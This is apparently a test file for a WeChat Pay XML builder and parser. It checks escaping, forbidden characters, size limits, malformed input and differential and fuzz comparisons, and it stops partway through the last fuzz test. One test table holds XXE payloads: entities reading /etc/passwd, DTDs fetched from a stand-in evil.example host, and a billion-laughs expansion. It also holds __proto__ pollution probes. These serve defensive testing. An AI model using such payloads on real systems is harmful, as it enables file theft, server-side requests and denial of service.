import assert from 'node:assert/strict';
import { buildXml, DEFAULT_MAX_XML_BYTES, parseXml, sign, WechatError, WechatXmlError } from '../../../lib/wechatpay';
import { legacyParseXml } from '../../support/legacyParseXml';

/** Deterministic PRNG (mulberry32) so the fuzz cases are the same on every run. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function assertRefused(body: string | Buffer, pattern?: RegExp, options?: Parameters<typeof parseXml>[1]): void {
  assert.throws(() => parseXml(body, options), (err: unknown) => {
    assert.ok(err instanceof WechatXmlError, `expected WechatXmlError, got ${String(err)}`);
    if (pattern) assert.match(err.message, pattern);
    return true;
  }, JSON.stringify(typeof body === 'string' ? body.slice(0, 120) : body.subarray(0, 60).toString('hex')));
}

const NOTIFY = '<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid><attach><![CDATA[支付测试]]></attach>' +
  '<bank_type><![CDATA[CFT]]></bank_type><fee_type><![CDATA[CNY]]></fee_type><is_subscribe><![CDATA[Y]]></is_subscribe>' +
  '<mch_id><![CDATA[10000100]]></mch_id><nonce_str><![CDATA[5d2b6c2a8db53831f7eda20af46e531c]]></nonce_str>' +
  '<openid><![CDATA[oUpF8uMEb4qRXf22hE3X68TekukE]]></openid><out_trade_no><![CDATA[1409811653]]></out_trade_no>' +
  '<result_code><![CDATA[SUCCESS]]></result_code><return_code><![CDATA[SUCCESS]]></return_code>' +
  '<sign><![CDATA[B552ED6B279343CB493C5DD0D78AB241]]></sign><time_end><![CDATA[20140903131540]]></time_end>' +
  '<total_fee>1</total_fee><coupon_fee><![CDATA[10]]></coupon_fee><coupon_count><![CDATA[1]]></coupon_count>' +
  '<coupon_type><![CDATA[CASH]]></coupon_type><coupon_id><![CDATA[10000]]></coupon_id><coupon_fee><![CDATA[100]]></coupon_fee>' +
  '<trade_type><![CDATA[JSAPI]]></trade_type><transaction_id><![CDATA[1004400740201409030005092168]]></transaction_id></xml>';

describe('lib/wechatpay xml', () => {
  describe('buildXml', () => {
    it('writes one flat <xml> with every value in CDATA', () => {
      assert.equal(buildXml({ a: '1', b: 2 }), '<xml><a><![CDATA[1]]></a><b><![CDATA[2]]></b></xml>');
    });

    it('skips undefined and null, keeps an empty string', () => {
      assert.equal(buildXml({ a: undefined, b: null, c: '' }), '<xml><c><![CDATA[]]></c></xml>');
    });

    it('uses another root when asked', () => {
      assert.equal(buildXml({ a: 'x' }, 'root'), '<root><a><![CDATA[x]]></a></root>');
    });

    it('refuses a root name that is not a plain identifier', () => {
      assert.throws(() => buildXml({ a: 'x' }, 'a><b'), WechatXmlError);
    });

    it('round-trips special characters and unicode through parseXml', () => {
      const params = {
        body: 'a < b && c > d "quoted" \'single\'', attach: '<xml>not a tag</xml>', cdata_like: '<![CDATA[x] ]>',
        unicode: '腾讯充值中心 😀 é', newline: 'line1\nline2', amp_entity: '&amp;&lt;', brackets: ']] > ]',
      };
      assert.deepEqual(parseXml(buildXml(params)), params);
    });

    it('round-trips numbers as strings', () => {
      assert.deepEqual(parseXml(buildXml({ total_fee: 100, zero: 0, neg: -1 })), { total_fee: '100', zero: '0', neg: '-1' });
    });

    it('splits "]]>" across CDATA sections, so any such value is written and reads back exactly', () => {
      assert.equal(buildXml({ a: 'x]]>y' }), '<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a></xml>');
      assert.equal(buildXml({ a: ']]>' }), '<xml><a><![CDATA[]]]]><![CDATA[>]]></a></xml>');
      for (const value of [ 'x]]>y', ']]>', ']]]]>>', ']]>]]>', '>]]>]', ']]></a><b>SUCCESS</b><c><![CDATA[', 'a]]]>b' ]) {
        const xml = buildXml({ a: value, b: 'z' });
        assert.deepEqual(parseXml(xml), { a: value, b: 'z' }, xml);
      }
    });

    it('writes a CR as a character reference (a raw one would read back as LF) and keeps tabs and LFs raw', () => {
      assert.equal(buildXml({ a: 'x\r\ny' }), '<xml><a><![CDATA[x]]>&#xD;<![CDATA[\ny]]></a></xml>');
      assert.equal(buildXml({ a: '\r' }), '<xml><a>&#xD;</a></xml>');
      assert.equal(buildXml({ a: '\t\n' }), '<xml><a><![CDATA[\t\n]]></a></xml>');
      for (const value of [ 'x\r\ny', '\r', '\r\n\r\n', ' \r ', ']]\r>', ']]>\r]]>', ' ', '\t' ]) {
        assert.deepEqual(parseXml(buildXml({ a: value })), { a: value }, JSON.stringify(value));
      }
    });

    it('writes every XML 1.0 character: the edges of each range, astral characters, U+FEFF', () => {
      const value = '\t\n\r \uD7FF\uE000\uFFFD\u{10000}\u{10FFFF}\uFEFF😀退款原因';
      assert.deepEqual(parseXml(buildXml({ refund_desc: value })), { refund_desc: value });
    });

    it('refuses a value holding a character XML 1.0 forbids, naming the field and the character', () => {
      const forbidden: Array<[string, string]> = [
        [ '\u0000', 'U+0000' ], [ '\u0001', 'U+0001' ], [ '\u0008', 'U+0008' ], [ '\u000B', 'U+000B' ], [ '\u000C', 'U+000C' ],
        [ '\u001F', 'U+001F' ], [ '\uD800', 'U+D800' ], [ '\uDFFF', 'U+DFFF' ], [ '\uFFFE', 'U+FFFE' ], [ '\uFFFF', 'U+FFFF' ],
      ];
      for (const [ char, name ] of forbidden) {
        assert.throws(() => buildXml({ ok: 'x', refund_desc: `before${char}after` }), (err: unknown) =>
          err instanceof WechatXmlError && err.message === `value of refund_desc contains ${name}, which XML 1.0 does not allow`, name);
      }
      assert.throws(() => buildXml({ a: 1, b: '\uDC00\uD800' }), /value of b contains U\+DC00/);
    });

    it('refuses element names that are not plain identifiers', () => {
      for (const name of [ '', 'a b', '1a', 'a<b', 'a>', 'a/b', 'a"', 'a&b', '中文', 'a-b', 'a:b', 'a\n' ]) {
        assert.throws(() => buildXml({ [name]: 'x' }), WechatXmlError, JSON.stringify(name));
      }
    });
  });

  describe('parseXml: accepted', () => {
    it('parses an official-style notification with CDATA and plain values', () => {
      const out = parseXml(NOTIFY.replace('<coupon_fee><![CDATA[100]]></coupon_fee>', ''));
      assert.equal(out.appid, 'wx2421b1c4370ec43b');
      assert.equal(out.attach, '支付测试');
      assert.equal(out.total_fee, '1');
      assert.equal(out.transaction_id, '1004400740201409030005092168');
      assert.equal(Object.keys(out).length, 20);
    });

    it('reads plain text values, decoding the predefined entities', () => {
      assert.deepEqual(parseXml('<xml><a>hello</a><b>1 &lt; 2 &amp;&amp; 3 &gt; 2 &quot;&apos;</b></xml>'),
        { a: 'hello', b: '1 < 2 && 3 > 2 "\'' });
    });

    it('joins mixed text and CDATA inside one field', () => {
      assert.deepEqual(parseXml('<xml><a>x<![CDATA[<y>]]>z</a></xml>'), { a: 'x<y>z' });
    });

    it('accepts whitespace and newlines between elements', () => {
      assert.deepEqual(parseXml('\n  <xml>\n\t<a><![CDATA[1]]></a>\r\n  <b>2</b>\n</xml>\n  '), { a: '1', b: '2' });
    });

    it('keeps a value that is only whitespace, plain or as references (signatures count it)', () => {
      assert.deepEqual(parseXml('<xml><a> </a><b>&#13;</b><c>&#x9;&#xA;</c>\n</xml>'), { a: ' ', b: '\r', c: '\t\n' });
    });

    it('keeps whitespace inside a CDATA value', () => {
      assert.deepEqual(parseXml('<xml><a><![CDATA[ padded ]]></a></xml>'), { a: ' padded ' });
    });

    it('accepts an XML declaration and comments', () => {
      assert.deepEqual(parseXml('<?xml version="1.0" encoding="UTF-8"?><xml><!-- c --><a>1</a></xml>'), { a: '1' });
    });

    it('keeps numbers as strings, leading zeros included', () => {
      assert.deepEqual(parseXml('<xml><total_fee>100</total_fee><code>007</code><f>1.50</f></xml>'),
        { total_fee: '100', code: '007', f: '1.50' });
    });

    it('reads an empty <xml> and empty fields', () => {
      assert.deepEqual(parseXml('<xml></xml>'), {});
      assert.deepEqual(parseXml('<xml><a></a><b/><c><![CDATA[]]></c></xml>'), { a: '', b: '', c: '' });
    });

    it('reads a UTF-8 Buffer', () => {
      assert.deepEqual(parseXml(Buffer.from('<xml><body>测试</body></xml>', 'utf8')), { body: '测试' });
    });

    it('parses a <root> document when asked (decrypted refund info)', () => {
      assert.deepEqual(parseXml('<root><refund_status>SUCCESS</refund_status></root>', { root: 'root' }), { refund_status: 'SUCCESS' });
    });

    it('accepts a body of exactly the size limit', () => {
      const head = '<xml><a>';
      const tail = '</a></xml>';
      const body = head + 'x'.repeat(DEFAULT_MAX_XML_BYTES - head.length - tail.length) + tail;
      assert.equal(Buffer.byteLength(body), DEFAULT_MAX_XML_BYTES);
      assert.equal(parseXml(body).a.length, DEFAULT_MAX_XML_BYTES - head.length - tail.length);
      assert.equal(parseXml(Buffer.from(body)).a.length, DEFAULT_MAX_XML_BYTES - head.length - tail.length);
    });

    it('returns a plain object and a __proto__ field does not pollute prototypes', () => {
      const out = parseXml('<xml><__proto__>x</__proto__><constructor>y</constructor><a>1</a></xml>');
      assert.equal(Object.getPrototypeOf(out), Object.prototype);
      assert.equal(Object.prototype.hasOwnProperty.call(out, '__proto__'), true);
      assert.equal(({} as any).x, undefined);
      assert.equal(out.a, '1');
      assert.equal(out.constructor, 'y');
    });
  });

  describe('parseXml: DTDs and entities are refused before parsing', () => {
    const payloads: Record<string, string> = {
      'XXE external entity': '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>',
      'XXE over http': '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://evil.example/x">]><xml><a>&xxe;</a></xml>',
      'parameter entity': '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><xml></xml>',
      'billion laughs': '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
        '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>' +
        '<xml><a>&lol3;</a></xml>',
      'external DTD': '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><a>1</a></xml>',
      'lower-case doctype': '<!doctype xml [<!entity x "y">]><xml><a>&x;</a></xml>',
      'mixed-case doctype': '<!DocType xml><xml><a>1</a></xml>',
      'entity without doctype': '<!ENTITY x "y"><xml><a>&x;</a></xml>',
      'lower-case entity': '<xml><!entity x "y"><a>1</a></xml>',
      'ELEMENT declaration': '<!ELEMENT xml ANY><xml></xml>',
      'ATTLIST declaration': '<!ATTLIST xml a CDATA #IMPLIED><xml></xml>',
      'doctype inside the root': '<xml><!DOCTYPE x><a>1</a></xml>',
      'doctype after the root': '<xml><a>1</a></xml><!DOCTYPE x>',
      'doctype text inside CDATA (refused too, conservatively)': '<xml><a><![CDATA[<!DOCTYPE]]></a></xml>',
    };
    for (const [ name, body ] of Object.entries(payloads)) {
      it(`refuses ${name}`, () => {
        assertRefused(body, /document type or entity declaration/);
        assertRefused(Buffer.from(body, 'utf8'), /document type or entity declaration/);
      });
    }
  });

  describe('parseXml: characters XML 1.0 forbids', () => {
    const forbidden = [ 0x0, 0x1, 0x8, 0xB, 0xC, 0xE, 0x1F, 0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xFFFE, 0xFFFF ];
    const hex = (cp: number) => cp.toString(16).toUpperCase().padStart(4, '0');

    it('refuses each one raw, naming it and where it is', () => {
      for (const cp of forbidden) {
        assertRefused(`<xml><a>x${String.fromCharCode(cp)}</a></xml>`,
          new RegExp(`^XML contains U\\+${hex(cp)} at character 9, which XML 1\\.0 does not allow$`));
      }
      assertRefused('<xml><a>\x01</a></xml>', /^XML contains U\+0001 at character 8, which XML 1\.0 does not allow$/);
    });

    it('refuses them raw anywhere: in CDATA, a comment, between fields, after the root, in a Buffer', () => {
      assertRefused('<xml><a><![CDATA[\x01]]></a></xml>', /U\+0001/);
      assertRefused('<xml><!-- \x07 --><a>1</a></xml>', /U\+0007/);
      assertRefused('<xml>\x0C<a>1</a></xml>', /U\+000C/);
      assertRefused('<xml><a>1</a></xml>\x00', /U\+0000/);
      assertRefused(Buffer.from('<xml><a>\x01</a></xml>'), /U\+0001/);
      assertRefused(Buffer.from('<xml><a>\uFFFF</a></xml>'), /U\+FFFF/);
    });

    it('refuses each one as a decimal or hexadecimal character reference', () => {
      for (const cp of forbidden) {
        assertRefused(`<xml><a>&#${cp};</a></xml>`,
          new RegExp(`^XML contains the character reference &#${cp}; \\(U\\+${hex(cp)}\\), which XML 1\\.0 does not allow$`));
        assertRefused(`<xml><a>x&#x${cp.toString(16)};y</a></xml>`, new RegExp(`&#x${cp.toString(16)}; \\(U\\+${hex(cp)}\\)`));
      }
      assertRefused('<xml><a>&#1;</a></xml>', /^XML contains the character reference &#1; \(U\+0001\), which XML 1\.0 does not allow$/);
      assertRefused('<xml><a>&#x1;</a></xml>', /^XML contains the character reference &#x1; \(U\+0001\)/);
      assertRefused('<xml><a>&#X1;</a></xml>', /&#X1; \(U\+0001\)/);
      assertRefused('<xml><a>&#0000001;</a></xml>', /&#0000001; \(U\+0001\)/);
      assertRefused('<xml><a>&#x110000;</a></xml>', /&#x110000; \(a code point beyond U\+10FFFF\)/);
      assertRefused(`<xml><a>&#${'9'.repeat(400)};</a></xml>`, /^XML contains the character reference &#9{18}\.\.\.; \(a code point beyond U\+10FFFF\)/);
      assertRefused('<xml><a><![CDATA[x]]>&#1;</a></xml>', /&#1;/);
      assertRefused('<xml><a>1</a><!-- x -->&#1;</xml>', /&#1;/);
    });

    it('accepts every allowed character, raw or as a reference, and "&#1;" as text in CDATA, comments and instructions', () => {
      assert.deepEqual(parseXml('<xml><a>\t\n\r \uD7FF\uE000\uFFFD\u{10000}\u{10FFFF}</a></xml>'),
        { a: '\t\n\r \uD7FF\uE000\uFFFD\u{10000}\u{10FFFF}' });
      assert.deepEqual(parseXml('<xml><a>&#9;&#xA;&#13;&#x20;&#xD7FF;&#xE000;&#xFFFD;&#x10000;&#1114111;</a></xml>'),
        { a: '\t\n\r \uD7FF\uE000\uFFFD\u{10000}\u{10FFFF}' });
      assert.deepEqual(parseXml('<?pi &#1;?><xml><!-- &#x0; --><a><![CDATA[&#1;&#x1;]]></a><b>&amp;#1;</b></xml>'), { a: '&#1;&#x1;', b: '&#1;' });
    });

    it('scans a body of many unclosed sections in one pass', () => {
      const body = `<xml><a>${'<![CDATA[<!--<?'.repeat(16000)}</a></xml>`;
      const started = process.hrtime.bigint();
      assertRefused(body, /malformed/, { maxBytes: 1024 * 1024 });
      assert.ok(process.hrtime.bigint() - started < 2_000_000_000n, 'took over 2 s');
    });
  });

  describe('parseXml: size and encoding', () => {
    it('refuses a string over the limit', () => {
      assertRefused(`<xml><a>${'x'.repeat(DEFAULT_MAX_XML_BYTES)}</a></xml>`, /exceeds the limit/);
    });

    it('refuses a Buffer over the limit', () => {
      assertRefused(Buffer.alloc(DEFAULT_MAX_XML_BYTES + 1, 0x20), /exceeds the limit/);
    });

    it('counts bytes, not characters', () => {
      const body = `<xml><a>${'测'.repeat(100)}</a></xml>`; // 118 characters, 318 bytes
      assert.ok(body.length < 200);
      assertRefused(body, /exceeds the limit of 200/, { maxBytes: 200 });
      assert.equal(parseXml(body, { maxBytes: 400 }).a.length, 100);
    });

    it('checks the size before looking for a DTD', () => {
      assertRefused(`<!DOCTYPE x>${' '.repeat(100)}<xml></xml>`, /exceeds the limit/, { maxBytes: 50 });
    });

    it('refuses a Buffer that is not valid UTF-8', () => {
      const bad = [
        [ 0xff ], [ 0xc0, 0xaf ], [ 0xe6, 0xb5 ], [ 0xed, 0xa0, 0x80 ], [ 0xf8, 0x88, 0x80, 0x80, 0x80 ],
      ];
      for (const bytes of bad) {
        const body = Buffer.concat([ Buffer.from('<xml><a>'), Buffer.from(bytes), Buffer.from('</a></xml>') ]);
        assertRefused(body, /not valid UTF-8/);
      }
    });

    it('refuses an empty or blank body', () => {
      assertRefused('', /empty/);
      assertRefused('   \n\t', /empty/);
      assertRefused(Buffer.alloc(0), /empty/);
    });
  });

  describe('parseXml: malformed or unexpected shapes', () => {
    const cases: Record<string, string> = {
      'mismatched tags': '<xml><a>1</b></xml>',
      'unclosed field': '<xml><a>1</xml>',
      'unclosed root': '<xml><a>1</a>',
      'only an opening tag': '<xml>',
      'unclosed CDATA': '<xml><a><![CDATA[x</a></xml>',
      'unclosed comment inside the root': '<xml><a>1</a><!-- </xml>',
      'trailing text': '<xml><a>1</a></xml>garbage',
      'trailing text and a closing tag': '<xml><a>1</a></xml>garbage</xml>',
      'trailing unclosed comment': '<xml><a>1</a></xml><!-- </xml>',
      'trailing unclosed instruction': '<xml><a>1</a></xml><?pi </xml>',
      'trailing unclosed CDATA': '<xml><a>1</a></xml><![CDATA[ </xml>',
      'two roots': '<xml><a>1</a></xml><xml><a>2</a></xml>',
      'self-closing root': '<xml/>',
      'wrong root': '<root><a>1</a></root>',
      'wrong root, ending in </xml>': '<foo><a>1</a></foo><xml></xml>',
      'nested element': '<xml><a><b>1</b></a></xml>',
      'nested empty element': '<xml><a><b/></a></xml>',
      'attribute on a field': '<xml><a b="1">x</a></xml>',
      'attribute on the root': '<xml version="2"><a>x</a></xml>',
      'duplicated field': '<xml><coupon_fee>10</coupon_fee><coupon_fee>100</coupon_fee></xml>',
      'duplicated empty field': '<xml><a/><a/></xml>',
      'text directly inside the root': '<xml>hello<a>1</a></xml>',
      'CDATA directly inside the root': '<xml><![CDATA[x]]></xml>',
      'instruction inside a field': '<xml><a><?pi x?></a></xml>',
      'invalid character reference': '<xml><a>&#0;</a></xml>',
      'surrogate character reference': '<xml><a>&#xD800;</a></xml>',
      'bare ampersand': '<xml><a>a & b</a></xml>',
      'bare less-than': '<xml><a>a < b</a></xml>',
      JSON: '{"return_code":"SUCCESS"}',
      'plain text': 'SUCCESS',
      'HTML error page': '<html><body>502 Bad Gateway</body></html>',
      'closing tag only': '</xml>',
      'space in the closing tag': '<xml><a>1</a></xml >',
    };
    for (const [ name, body ] of Object.entries(cases)) {
      it(`refuses ${name}`, () => assertRefused(body));
    }

    it('refuses the duplicated coupon_fee of a crafted notification', () => {
      assertRefused(NOTIFY, /more than once/);
    });

    it('refuses another root when <root> is expected', () => {
      assertRefused('<xml><a>1</a></xml>', undefined, { root: 'root' });
    });

    it('refuses deep nesting with a large limit without overflowing the stack', () => {
      const depth = 20000; // the recursive check overflowed the stack from about 20000
      const closed = '<xml>' + '<a>'.repeat(depth) + '</a>'.repeat(depth) + '</xml>';
      assertRefused(closed, /not flat/, { maxBytes: 1024 * 1024 });
      const unclosed = '<xml>' + '<a>'.repeat(depth) + '</xml>';
      assertRefused(unclosed, undefined, { maxBytes: 1024 * 1024 });
    });
  });

  describe('parseXml: refuses a document left open at the very end (sax reports those only at close)', () => {
    // The former reader appended a sentinel instruction because xml-js dropped the errors sax
    // raises when the input ends; each body here ends in "</xml>" and leaves sax in another state.
    const cases: Record<string, string> = {
      'an open field': '<xml><a>1</a><b></xml>',
      'an open root': '<xml><a>1</a>',
      'an unclosed comment': '<xml><a>1</a></xml><!-- </xml>',
      'a comment ending in "--"': '<xml><a>1</a></xml><!-- x --</xml>',
      'an unclosed CDATA section': '<xml><a>1</a></xml><![CDATA[ </xml>',
      'a CDATA section ending in "]]"': '<xml><a>1</a></xml><![CDATA[ ]]</xml>',
      'an unclosed instruction': '<xml><a>1</a></xml><?pi </xml>',
      'an instruction ending in "?"': '<xml><a>1</a></xml><?pi x?</xml>',
      'an unclosed tag': '<xml><a>1</a></xml><b </xml>',
      'an unclosed attribute value': '<xml><a>1</a></xml><b c="</xml>',
      'an unclosed quoted declaration': '<xml><a>1</a></xml><!x "</xml>',
      'an open tag inside a field': '<xml><a><b </a></xml>',
    };
    for (const [ name, body ] of Object.entries(cases)) {
      it(`refuses ${name}`, () => {
        assertRefused(body);
        assertRefused(Buffer.from(body, 'utf8'));
      });
    }

    it('reads well after a refusal (the parser left mid-document is not reused)', () => {
      for (const body of Object.values(cases)) {
        assertRefused(body);
        assert.deepEqual(parseXml('<xml><a>1</a></xml>'), { a: '1' });
      }
      assertRefused(Buffer.from([ 0x3c, 0x78, 0xe6, 0xb5 ]), /not valid UTF-8/);
      assert.deepEqual(parseXml(Buffer.from('<xml><b>测</b></xml>', 'utf8')), { b: '测' });
    });
  });

  describe('parseXml: the same as the xml-js reader it replaced (differential)', () => {
    type Outcome = { fields: Record<string, string> } | { refused: true };
    function outcome(read: typeof parseXml, body: string | Buffer, options?: Parameters<typeof parseXml>[1]): Outcome {
      try {
        const fields = read(body, options);
        assert.equal(Object.getPrototypeOf(fields), Object.prototype);
        return { fields };
      } catch (err) {
        assert.ok(err instanceof WechatXmlError, `${String(err)}`);
        return { refused: true };
      }
    }
    let compared = 0;
    let accepted = 0;
    function same(body: string | Buffer, options?: Parameters<typeof parseXml>[1]): void {
      const now = outcome(parseXml, body, options);
      const before = outcome(legacyParseXml, body, options);
      const shown = JSON.stringify(typeof body === 'string' ? body : `hex:${body.toString('hex')}`);
      if ('refused' in before) {
        assert.ok('refused' in now, `accepted what the former reader refused: ${shown}`);
      } else {
        assert.ok('fields' in now, `refused what the former reader accepted: ${shown}`);
        assert.deepEqual(Object.entries(now.fields), Object.entries(before.fields), shown);
        accepted++;
      }
      compared++;
    }

    const apiKey = '192006250b4c09247ec02edce69f6a2d';
    const fields: Record<string, string> = {
      return_code: 'SUCCESS', appid: 'wxbench00000000001', mch_id: '1900009999', nonce_str: 'Qm9vZ2xlIGlzIG5vdCBhIG5vbmNlIQ',
      result_code: 'SUCCESS', openid: 'oBench000000000000000000001', attach: '支付测试 😀', total_fee: '1200',
      out_trade_no: 'P20261123091500ab12cd34ef56ab78', time_end: '20261123171500',
    };
    const signed = buildXml({ ...fields, sign: sign(fields, apiKey, 'MD5') });
    const plain = '<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n  <return_code>SUCCESS</return_code>\n' +
      '  <!-- a comment --><mch_id>10000100</mch_id>\n  <body>a &amp; b &lt; c</body><e/><s> </s>\n</xml>\n';
    const bases = [ signed, plain, NOTIFY.replace('<coupon_fee><![CDATA[100]]></coupon_fee>', '') ];
    const snippets = [
      '<a>1</a>', '<appid>x</appid>', '<return_code>SUCCESS</return_code>', '<b><c>1</c></b>', '<b/>', '<b a="1"/>', ' a="1"', " b='2'",
      '<!-- c -->', '<!--', '-->', '<!-- -- -->', '<![CDATA[x]]>', ']]><![CDATA[', '<![CDATA[', ']]>', '<![CDATA[]]>',
      '&amp;', '&lt;', '&nbsp;', '&AMP;', '&lol;', '&', '&#65;', '&#x41;', '&#1;', '&#x0;', '&#xD800;', '&#xFFFE;', '&#13;', '&#x110000;',
      '\uFEFF', ' ', '\n', '\t', '\r\n', '\u00A0', '\u3000', '\u0001', '\u0000', '\uFFFE', '\uD800', '\uDC00', '😀',
      '<!DOCTYPE x>', '<!doctype x [<!ENTITY e "y">]>', '<!ENTITY e "y">', '<! DOCTYPE x>', '<!x>', '<![x[ ]]>',
      '<?pi x?>', '<?xml version="1.0"?>', '<?XML?>', '<?', '?>', '<', '>', '/', '</', '</a>', '<xml>', '</xml>', '<root>', '</root>',
      'junk', '=', '"', "'", '<a', '<1>', '<a:b>1</a:b>', '<__proto__>p</__proto__>', '<constructor>c</constructor>',
    ];

    it('agrees on every truncation of real notifications, as strings and as bytes', () => {
      for (const base of bases) {
        const bytes = Buffer.from(base, 'utf8');
        for (let end = 0; end <= base.length; end++) same(base.slice(0, end));
        for (let end = 0; end <= bytes.length; end++) same(bytes.subarray(0, end));
        same(base, { root: 'root' });
        same(base.replace(/^(<\?xml[^>]*\?>\s*)?<xml>/, '<root>').replace(/<\/xml>\s*$/, '</root>'), { root: 'root' });
      }
      assert.ok(accepted >= bases.length * 2, `only ${accepted} accepted`);
    });

    it('agrees on hostile snippets put between and inside the tags of real notifications', () => {
      const rand = mulberry32(19);
      const acceptedBefore = accepted;
      for (const base of bases) {
        // Each snippet at both ends, and at 14 seeded places: where markup starts or ends, or anywhere.
        const marks: number[] = [];
        for (let i = 0; i < base.length; i++) if (base[i] === '<' || base[i] === '>') marks.push(i, i + 1);
        for (const snippet of snippets) {
          const places = [ 0, base.length ];
          for (let k = 0; k < 10; k++) places.push(marks[Math.floor(rand() * marks.length)]);
          for (let k = 0; k < 4; k++) places.push(Math.floor(rand() * (base.length + 1)));
          for (const at of places) same(base.slice(0, at) + snippet + base.slice(at));
        }
        // A field doubled, a field's closing tag dropped, a field nested in the next one.
        for (const match of base.matchAll(/<([a-z_]+)>.*?<\/\1>/g)) {
          const at = match.index! + match[0].length;
          same(base.slice(0, at) + match[0] + base.slice(at));
          same(base.slice(0, at - match[1].length - 3) + base.slice(at));
          same(base.slice(0, match.index) + base.slice(at).replace('>', `>${match[0]}`));
        }
      }
      assert.ok(accepted - acceptedBefore > 100, `only ${accepted - acceptedBefore} accepted: the corpus tests refusals only`);
    });

    it('agrees on seeded random edits of real notifications', () => {
      const rand = mulberry32(20261130);
      const atoms = [ ...snippets, 'x', '1', '测' ];
      for (let i = 0; i < 2000; i++) {
        const base = bases[i % bases.length];
        let body = base;
        const edits = 1 + Math.floor(rand() * 4);
        for (let e = 0; e < edits; e++) {
          const at = Math.floor(rand() * (body.length + 1));
          const op = rand();
          if (op < 0.3) body = body.slice(0, at) + body.slice(at + 1 + Math.floor(rand() * 8));
          else if (op < 0.8) body = body.slice(0, at) + atoms[Math.floor(rand() * atoms.length)] + body.slice(at);
          else body = body.slice(0, at) + String.fromCharCode(Math.floor(rand() * 128)) + body.slice(at + 1);
        }
        same(body);
        if (i % 10 === 0) same(Buffer.from(body, 'utf8'));
      }
      assert.ok(accepted > 100, `only ${accepted} of ${compared} accepted: the corpus tests refusals only`);
    });

    it('agrees on oddities: entities, BOMs, declarations and instructions in odd places', () => {
      const bodies = [
        '<xml><a>x<![CDATA[<y>]]>z</a></xml>', '<xml><a> </a><b>&#13;</b><c>&#x9;&#xA;</c>\n</xml>', '\uFEFF<xml><a>1</a></xml>',
        '\uFEFF\uFEFF<xml></xml>', '<xml>&nbsp;<a>1</a></xml>', '<xml><a>&nbsp;&copy;&AMP;</a></xml>', '<xml><a>1<?xml?>2</a></xml>',
        '<xml><?xml version="1.0"?><a>1</a></xml>', '<xml><a>1<!x>2</a></xml>', '<![CDATA[x]]><xml></xml>', '<!-- c --><xml></xml>',
        '<xml><a>1</a></xml><!x </xml>', '<xml><a>1</a></xml><?pi?>\n</xml>', '<xml><a __proto__="x">1</a></xml>',
        '<xml>\u3000<a>1</a></xml>', '<xml><![CDATA[ ]]><a>1</a></xml>', '<xml><a>1</a></xml>\uFEFF</xml>',
      ];
      for (const body of bodies) {
        same(body);
        same(Buffer.from(body, 'utf8'));
      }
    });
  });

  describe('parseXml: fuzz', () => {
    const nasty = [
      '<', '>', '<>', '</>', '<xml', '<xml>', '</xml>', '<xml></xml', '<xml><', '<xml><a>', '<xml><a></a', '<xml></a></xml>',
      '<![CDATA[', ']]>', '<xml><![CDATA[]]></xml>', '<xml><a><![CDATA[]]]]></a></xml>', '<!--', '-->', '<!---->',
      '<?', '?>', '<?xml?>', '<?xml version="1.0"?>', '<?xml version="1.0"?></xml>', '<xml><?xml?></xml>',
      '&', '&;', '&#;', '&#x;', '&#xFFFFFFFF;', '&amp', '<xml>&lol;</xml>', '<xml><a>&#99999999;</a></xml>',
      '\u0000', '<xml>\u0000</xml>', '<xml><a>\u0000</a></xml>', '\uFEFF<xml></xml>', '\uD800', '<xml><a>\uDFFF</a></xml>',
      '<xml><a b></a></xml>', '<xml><a b=></a></xml>', '<xml><a b="></a></xml>', "<xml><a b='1' b='2'></a></xml>",
      '<xml><a xmlns="x">1</a></xml>', '<xml><a:b>1</a:b></xml>', '<xml:a></xml:a>', '<1a></1a>', '<xml><1>1</1></xml>',
      '<xml><a>1</a><a>1</a></xml>', '<xml><constructor>1</constructor></xml>', '<xml><toString>1</toString></xml>',
      '<xml><hasOwnProperty>1</hasOwnProperty></xml>', '<xml><__proto__><a>1</a></__proto__></xml>',
      '<xml><a __proto__="x">1</a></xml>', '<xml><a constructor="x">1</a></xml>',
      '<!DOCTYPE', '<!doctype', '<!ENTITY', '<!DOCTYPE x [', '<!', '<!x>', '<!>', '<xml><!x></xml>', '<xml><![x[ ]]></xml>',
      '<xml></xml></xml>', '<xml><xml></xml></xml>', '<xml>\n</xml>\n</xml>', ' </xml>', 'null', 'undefined', '[object Object]',
      '<xml>' + '<'.repeat(1000) + '</xml>', '<xml>' + '&'.repeat(1000) + '</xml>', '<xml>' + ']]>'.repeat(300) + '</xml>',
      '<xml>' + '<a>'.repeat(2000) + '</xml>', '<xml>' + '</a>'.repeat(2000) + '</xml>', '<xml>' + '<!--'.repeat(500) + '</xml>',
    ];
    const isStringMap = (out: unknown) => typeof out === 'object' && out !== null &&
      Object.values(out).every(v => typeof v === 'string');

    function check(body: string | Buffer, options?: Parameters<typeof parseXml>[1]): void {
      let out: unknown;
      try {
        out = parseXml(body, options);
      } catch (err) {
        assert.ok(err instanceof WechatXmlError,
          `${String(err)} for ${JSON.stringify(typeof body === 'string' ? body.slice(0, 80) : body.subarray(0, 40).toString('hex'))}`);
        return;
      }
      assert.ok(isStringMap(out));
    }

    it('throws nothing but WechatXmlError for a list of nasty strings', () => {
      for (const body of nasty) {
        check(body);
        check(Buffer.from(body, 'utf8'));
        check(body, { root: 'root' });
      }
    });

    it('throws nothing but WechatXmlError for seeded random bytes', () => {
      const rand = mulberry32(0xC0FFEE);
